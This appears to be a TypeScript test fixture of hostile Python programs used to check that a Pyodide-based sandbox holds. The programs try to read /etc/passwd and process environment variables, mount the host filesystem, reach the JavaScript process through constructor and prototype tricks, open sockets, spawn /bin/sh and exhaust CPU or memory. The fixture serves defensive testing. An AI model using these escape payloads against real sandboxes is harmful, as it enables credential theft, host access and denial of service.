import { finding } from './python-attacks.ts';

/** What programs try to reach. */
interface Place {
  /** Of a server that must not hear of any of them. */
  readonly port: number;
  readonly secretFile: string;
  readonly cacheFolder: string;
}

const stealing = (expression: string): string => `${finding}\nprint('BREACH', ${expression})`;

/** What a program tries, and its text; a line of `BREACH` in its output is what must never be. */
type Programs = readonly (readonly [string, string])[];

const filesOfTheHost = ({ secretFile, cacheFolder }: Place): Programs => [
  ['reads the accounts', 'print("BREACH" if "root:" in open("/etc/passwd").read() else "")'],
  ['reads the secret by its path', `print("BREACH", open(${JSON.stringify(secretFile)}).read())`],
  ['climbs out of its folder', `print("BREACH", open("../../../../../..${secretFile}").read())`],
  ['reads its own process', 'print("BREACH", open("/proc/self/environ").read())'],
  ['reads a disk', 'print("BREACH", open("/dev/sda", "rb").read(1))'],
  [
    'links to a file of the host',
    `import os\nos.symlink(${JSON.stringify(secretFile)}, "l")\nprint("BREACH", open("l").read())`,
  ],
  ['mounts the host', stealing(`api.mountNodeFS('/host', '/etc') or __import__('os').listdir('/host')`)],
  [
    'mounts the host by hand',
    `${finding}
fs = api._module.FS
api.FS.mkdirTree('/host')
fs.mount(fs.filesystems.NODEFS, api.toPy and __import__('_pyodide_core').to_js({'root': '/etc'}), '/host')
import os
print('BREACH', os.listdir('/host'))`,
  ],
  [
    'reads through the loader of the interpreter',
    stealing(`api._module.FS.filesystems.NODEFS.stream_ops.open(api.FS.open(${JSON.stringify(secretFile)}, 'r'))`),
  ],
  ['reads through the archive reader', stealing(`api.unpackArchive(${JSON.stringify(secretFile)}, 'zip')`)],
  [
    'writes a file of the host',
    stealing(`api.mountNodeFS('/host', ${JSON.stringify(cacheFolder)}) or open('/host/written.txt', 'w').write('x')`),
  ],
];

const variablesAndTheProcess: Programs = [
  [
    'reads variables',
    'import os\nprint("BREACH" if "TOLLGATE_TEST_SECRET" in os.environ or "HOME=/root" in str(os.environ) else "")',
  ],
  [
    'learns where the gateway lies',
    'import os, sys\nprint("BREACH" if "python-child" in f"{dict(os.environ)} {sys.executable} {sys.orig_argv} {sys.argv}" else "")',
  ],
  ['reaches the process by JavaScript', stealing('__import__("js").process.env')],
  ['reaches the process by a global', stealing('api._api.globalThis.process.env')],
  ['compiles JavaScript by its constructor', stealing('function("return process")()')],
  [
    'compiles JavaScript by the constructor of asynchronous functions',
    stealing('api.runPythonAsync.constructor("return process")()'),
  ],
  ['compiles JavaScript from a property', stealing('api.constructor.constructor("return globalThis")().process.pid')],
  ['evaluates JavaScript', 'from pyodide.code import run_js\nprint("BREACH", run_js("process.pid"))'],
  [
    'evaluates JavaScript from C',
    'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"globalThis.x = 1")\nprint("BREACH")',
  ],
  [
    'spoils the prototype of everything',
    `${finding}
api.constructor.prototype.toJSON = print
api.constructor.prototype.path = '../../evil'
print('done')`,
  ],
  [
    'replaces the callbacks of errors',
    `${finding}
from _pyodide_core import create_proxy
try:
    function('1')
except BaseException as refusal:
    error = api.constructor.getPrototypeOf(refusal.constructor)
def steal(e, frames):
    for frame in frames:
        this = frame.getThis()
        if hasattr(this, 'process'): print('BREACH', this.process)
error.prepareStackTrace = create_proxy(steal)
error.new().stack`,
  ],
];

const network = ({ port }: Place): Programs => [
  [
    'opens a socket',
    `import socket\ns = socket.create_connection(("127.0.0.1", ${port}), 2)\ns.sendall(b"x")\nprint(s.recv(1))`,
  ],
  [
    'asks for a page',
    `import urllib.request\nprint("BREACH", urllib.request.urlopen("http://127.0.0.1:${port}/", timeout=2).status)`,
  ],
  [
    'asks a name server',
    'import socket\na = socket.gethostbyname("example.com")\nprint("BREACH" if not a.startswith("172.29.") else "")',
  ],
  [
    'sends a datagram',
    `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b"x", ("127.0.0.1", ${port}))`,
  ],
  [
    'listens',
    'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.listen()\nprint("BREACH", s.getsockname()) if s.getsockname()[1] else print()',
  ],
  [
    'turns on real sockets',
    `${finding}
import asyncio, socket
asyncio.set_event_loop(asyncio.new_event_loop())
api.useNodeSockFS()
s = socket.create_connection(("127.0.0.1", ${port}), 2)
s.sendall(b"x")
print('BREACH')`,
  ],
  [
    'fetches by the library of the interpreter',
    `import asyncio\nfrom pyodide.http import pyfetch\nprint("BREACH", asyncio.run(pyfetch("http://127.0.0.1:${port}/")))`,
  ],
  [
    'loads a package from an address',
    `${finding}\nimport asyncio, time\nasyncio.set_event_loop(asyncio.new_event_loop())\napi.loadPackage("http://127.0.0.1:${port}/evil-1.0-py3-none-any.whl")\ntime.sleep(0.5)`,
  ],
  ['opens a web socket', stealing(`api._api.WebSocket.new("ws://127.0.0.1:${port}/")`)],
];

const otherProcesses: Programs = [
  ['forks', 'import os\nprint("BREACH", os.fork())'],
  [
    'starts a shell',
    'import subprocess\nprint("BREACH", subprocess.run(["/bin/sh", "-c", "id"], capture_output=True))',
  ],
  ['starts a command', 'import os\nprint("BREACH" if os.system("touch /tmp/x") == 0 else "")'],
  ['replaces itself', 'import os\nos.execv("/bin/sh", ["sh"])\nprint("BREACH")'],
  ['kills its parent', 'import os\nos.kill(os.getppid(), 9)\nprint("sent")'],
  ['starts threads', 'import threading\nt = threading.Thread(target=print, args=("BREACH",))\nt.start()'],
  ['starts processes', 'import multiprocessing\np = multiprocessing.Process(target=print)\np.start()\nprint("BREACH")'],
  ['loads a library', 'import ctypes\nctypes.CDLL("libc.so.6")\nprint("BREACH")'],
];

const ownWalls: Programs = [
  ['writes to wild addresses', 'import ctypes\nctypes.memset(0, 255, 2**26)\nprint("done")'],
  ['calls a wild address', 'import ctypes\nctypes.CFUNCTYPE(None)(123456789)()'],
  ['breaks the interpreter', 'from _pyodide_core import trigger_fatal_error\ntrigger_fatal_error()'],
  ['recurses without end in C', 'a = None\nfor _ in range(10_000_000): a = [a]\ndel a\nprint(repr)'],
  ['recurses without end', 'import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()'],
  [
    'takes back what runs it',
    'import builtins, sys\nbuiltins.exec = builtins.compile = builtins.print = None\nsys.stdout = None\nsys.exit = None',
  ],
  ['forges the end', 'import os\nos.write(1, b"d\\x00\\x00\\x00\\x02{}")\nos.write(2, b"d\\xff\\xff\\xff\\xff")'],
  ['closes what it is heard by', 'import os\nfor n in range(64):\n    try: os.close(n)\n    except OSError: pass'],
  [
    'returns a file from outside',
    `${finding}
from _pyodide_core import create_proxy, to_js
api.FS.readdir = create_proxy(lambda path: to_js(['../../../../../tmp/evil.txt']))
print('done')`,
  ],
];

export const hostilePrograms = (place: Place): Programs => [
  ...filesOfTheHost(place),
  ...variablesAndTheProcess,
  ...network(place),
  ...otherProcesses,
  ...ownWalls,
];

/** Those that never end by themselves. */
export const endlessPrograms: readonly (readonly [string, string, string])[] = [
  ['loops', 'while True: pass', 'time'],
  [
    'loops and catches everything',
    'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
    'time',
  ],
  ['sleeps', 'import time\ntime.sleep(1_000)', 'time'],
  ['multiplies without end', 'x = 7 ** (10 ** 8)', 'time'],
  ['matches without end', 'import re\nre.match("(a+)+b", "a" * 60)', 'time'],
  ['prints without end', 'while True:\n    try: print("x" * 1_000)\n    except BaseException: pass', 'time'],
  [
    'fills the memory of files',
    'n = 0\nwhile True:\n    n += 1\n    open(f"/tmp/{n}", "wb").write(b"x" * 50_000_000)',
    'memory',
  ],
  [
    'fills memory outside of Python',
    'from _pyodide_core import to_js\nb = b"x" * 50_000_000\nkept = []\nwhile True: kept.append(to_js(b))',
    'memory',
  ],
];
